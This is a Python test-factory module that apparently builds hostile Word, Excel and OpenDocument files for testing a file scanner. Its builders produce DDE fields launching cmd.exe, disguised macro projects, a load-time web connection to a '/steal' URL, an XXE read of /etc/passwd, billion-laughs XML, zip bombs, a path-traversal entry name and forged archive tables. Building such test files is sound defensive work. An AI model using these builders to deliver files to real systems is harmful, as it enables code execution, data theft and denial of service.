"""Office files and archives that do more than be read: each is a good Word, Excel or OpenDocument file but for one."""

import random
import struct
import zipfile
from functools import lru_cache
from io import BytesIO

import docx
import openpyxl

from tests.factories.hostile_parts import archive, eicar, program

ODT = b"application/vnd.oasis.opendocument.text"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
MACRO_TYPE = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'


def parts_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(content)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


@lru_cache(maxsize=1)
def plain_word() -> bytes:
    made, out = docx.Document(), BytesIO()
    made.add_paragraph("A plain paragraph")
    made.save(out)
    return out.getvalue()


@lru_cache(maxsize=1)
def plain_book() -> bytes:
    made, out = openpyxl.Workbook(), BytesIO()
    made.active.append(["Title", "Lead"])
    made.save(out)
    return out.getvalue()


def word(**changed: bytes) -> bytes:
    """A Word file with these parts more, or instead. A name is written with __ for / and _dot_ for a full stop."""
    return changed_archive(plain_word(), {name_of(name): content for name, content in changed.items()})


def name_of(name: str) -> str:
    return name.replace("__", "/").replace("_dot_", ".")


def changed_archive(content: bytes, changed: dict[str, bytes]) -> bytes:
    return archive({**parts_of(content), **changed})


def book(changed: dict[str, bytes]) -> bytes:
    return changed_archive(plain_book(), changed)


def with_body(inner: str, extra: dict[str, bytes] | None = None, head: str = "") -> bytes:
    body = f'{head}<w:document {W} xmlns:r="{RELATIONS}"><w:body>{inner}</w:body></w:document>'
    return changed_archive(plain_word(), {"word/document.xml": body.encode(), **(extra or {})})


def typed(content: bytes, old: bytes, new: bytes) -> bytes:
    """Another kind of file, as its list of kinds says."""
    types = parts_of(content)["[Content_Types].xml"]
    assert old in types
    return changed_archive(content, {"[Content_Types].xml": types.replace(old, new)})


def with_macros(content: bytes, folder: str, main: bytes, enabled: bytes) -> bytes:
    """A true macro file: its kind says so, and the project is there."""
    made = changed_archive(typed(content, main, enabled), {f"{folder}/vbaProject.bin": OLD_OFFICE + bytes(500)})
    types = parts_of(made)["[Content_Types].xml"].replace(b"</Types>", MACRO_TYPE)
    return changed_archive(made, {"[Content_Types].xml": types})


def docm() -> bytes:
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return with_macros(plain_word(), "word", main, b"application/vnd.ms-word.document.macroEnabled.main+xml")


def xlsm() -> bytes:
    main = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return with_macros(plain_book(), "xl", main, b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")


def disguised_macros() -> bytes:
    """The project under a name that says nothing, named by its relation alone; the list of kinds calls it data."""
    kind = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    relation = f'<Relationship Id="rId99" Type="{kind}" Target="media/picture.dat"/>'
    return changed_archive(
        related(plain_word(), "word/_rels/document.xml.rels", relation),
        {"word/media/picture.dat": OLD_OFFICE + b"_\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T\0" + bytes(400)},
    )


def binary_book() -> bytes:
    return book({"xl/workbook.bin": bytes(100), "xl/macrosheets/sheet1.bin": bytes(100)})


def odt(changed: dict[str, bytes] | None = None, body: str = "") -> bytes:
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0">'
        f"{body}<office:body><office:text><text:p>Plain</text:p></office:text></office:body></office:document-content>"
    )
    return archive({"mimetype": ODT, "content.xml": content.encode(), **(changed or {})})


def odt_with_event() -> bytes:
    address = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application"
    listener = f'<script:event-listener script:event-name="dom:load" xlink:href="{address}"/>'
    return odt(body=f"<office:scripts><office:event-listeners>{listener}</office:event-listeners></office:scripts>")


def related(content: bytes, part: str, relation: str) -> bytes:
    """One relation more in a part that lists them."""
    before = parts_of(content).get(part, b"")
    head = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    listed = before.replace(b"</Relationships>", relation.encode() + b"</Relationships>") if before else b""
    return changed_archive(content, {part: listed or head + relation.encode() + b"</Relationships>"})


def external(kind: str, target: str, part: str = "word/_rels/document.xml.rels", content: bytes = b"") -> bytes:
    relation = f'<Relationship Id="rId99" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
    return related(content or plain_word(), part, relation)


def alt_chunk() -> bytes:
    page = b"<html><script>alert(1)</script></html>"
    made = with_body('<w:altChunk r:id="rId99"/>', {"word/afchunk.htm": page})
    relation = f'<Relationship Id="rId99" Type="{RELATIONS}/aFChunk" Target="afchunk.htm"/>'
    return related(made, "word/_rels/document.xml.rels", relation)


def dde(split: bool = False) -> bytes:
    words = ["DD", "EAUTO ", "c:\\\\windows\\\\system32\\\\cmd.exe "] if split else ["DDEAUTO c:\\\\cmd.exe"]
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{word}</w:instrText></w:r>' for word in words)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return with_body(f"<w:p>{begin}{runs}{end}</w:p>")


def field(instruction: str) -> bytes:
    return with_body(f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')


def connected_book() -> bytes:
    text = (
        '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<connection id="1" name="c" type="4" refreshOnLoad="1"><webPr url="http://198.51.100.7/steal"/></connection></connections>'
    )
    return book({"xl/connections.xml": text.encode()})


def linked_book() -> bytes:
    text = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
        'ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>'
    )
    return book({"xl/externalLinks/externalLink1.xml": text.encode()})


def formula_book(formula: str) -> bytes:
    made, out = openpyxl.Workbook(), BytesIO()
    made.active["A1"] = formula
    made.save(out)
    return out.getvalue()


def sheet(inside: bytes) -> bytes:
    part = b"<worksheet><sheetData><row><c>%s</c></row></sheetData></worksheet>" % inside
    return book({"xl/worksheets/sheet1.xml": part})


def much_said_of_parts(parts: int = 60) -> bytes:
    """Before each part stand 64 KB of remarks about it, none longer than nothing."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in {**parts_of(plain_word()), **{f"word/media/{n}.png": b"x" for n in range(parts)}}.items():
            one = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
            one.extra = b"\x99\x99\x00\x00" * 16_000
            made.writestr(one, content)
            one.extra = b""  # the table at the end stays short
    return out.getvalue()


def packaged_program() -> bytes:
    return changed_archive(plain_word(), {"word/embeddings/oleObject1.bin": OLD_OFFICE + bytes(64) + program()})


def xxe(encoding: str = "utf-8") -> bytes:
    head = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    body = f"{head}<w:document {W}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
    return word(word__document_dot_xml=body.encode(encoding))


def laughs() -> bytes:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    text = f'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY l0 "lol">{lines}]><sst><si><t>&l9;</t></si></sst>'
    return book({"xl/sharedStrings.xml": text.encode()})


def deep_xml(depth: int = 100_000) -> bytes:
    return with_body("<w:p>" * depth + "</w:p>" * depth)


def flat_bomb(megabytes: int = 60) -> bytes:
    return word(word__media__image1_dot_png=bytes(megabytes << 20))


def careful_bomb() -> bytes:
    """Just below the ratio that is refused, and more than 200 MB of parts in all."""
    noise = random.Random(1).randbytes(14 << 10)
    return word(word__media__image1_dot_png=(noise + bytes((1 << 20) - len(noise))) * 205)


def nested_bomb() -> bytes:
    inner = archive({f"{n}.bin": bytes(10 << 20) for n in range(4)})
    return word(word__media__image1_dot_png=archive({f"{n}.zip": inner for n in range(10)}))


def crowded(members: int = 5000) -> bytes:
    return changed_archive(plain_word(), {f"word/media/{n}.png": b"" for n in range(members)})


def lying_sizes(content: bytes | None = None) -> bytes:
    """The archive's table says 100 bytes of a part that unpacks to 30 MB."""
    made = bytearray(content or word(word__media__image1_dot_png=bytes(30 << 20)))
    at = made.rfind(b"word/media/image1.png")
    struct.pack_into("<I", made, at - 46 + 24, 100)
    return bytes(made)


def two_names() -> bytes:
    """What stands before a part and what the table says of it differ: two programs may see two files."""
    made = bytearray(word(word__media__image1_dot_png=b"x" * 30))
    at = made.find(b"word/media/image1.png")
    made[at : at + 21] = b"../../../etc/cron.d/a"
    return bytes(made)


def overlapping(entries: int = 1500) -> bytes:
    """One packed megabyte that every entry of the table names: some kilobytes are gigabytes for who unpacks them."""
    base = bytearray(word(word__media__image0_dot_png=bytes(1 << 20)))
    end = base.rfind(b"PK\x05\x06")
    count, size, begins = struct.unpack_from("<HII", base, end + 10)
    name = b"word/media/image0.png"
    entry = base.rfind(name, 0, end) - 46
    row = bytes(base[entry : entry + 46 + len(name)])
    rows = b"".join(row[:46] + b"word/media/im%04d.png" % n for n in range(entries))
    table = bytes(base[begins : begins + size]) + rows
    total = count + entries
    return (
        bytes(base[:begins])
        + table
        + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, total, total, len(table), begins, 0)
    )


def dolls() -> bytes:
    """Thirty archives in one another, each smaller than what it holds."""
    inner = archive({"b.txt": b"again"})
    for _ in range(30):
        inner = archive({"again.zip": inner})
    return word(word__media__image1_dot_png=inner)


def locked_word() -> bytes:
    """Each part flagged as locked by a password, as an archiver does it."""
    made, at = bytearray(plain_word()), 0
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(mark)
        while at >= 0:
            made[at + flags] |= 1
            at = made.find(mark, at + 4)
    return bytes(made)


def locked_office() -> bytes:
    """As Office writes it with a password: an old container with one stream named EncryptedPackage."""
    return OLD_OFFICE + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(2000)


def twice_the_same() -> bytes:
    """Two parts of one name: the scanner may read one, the word processor the other."""
    return word(word__document_dot_xmX=b"<other/>").replace(b"word/document.xmX", b"word/document.xml")


def with_eicar() -> bytes:
    return word(word__media__image1_dot_png=eicar())
